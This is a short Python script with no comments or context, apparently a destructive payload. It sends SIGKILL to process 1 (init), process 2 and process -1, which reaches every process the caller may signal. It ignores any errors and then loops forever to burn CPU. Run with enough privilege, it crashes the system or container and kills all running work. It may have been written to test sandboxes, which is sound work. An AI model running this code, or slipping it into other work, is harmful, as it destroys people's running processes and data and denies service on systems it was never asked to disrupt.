import os, signal
for pid in (1, 2, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
while True:
    pass
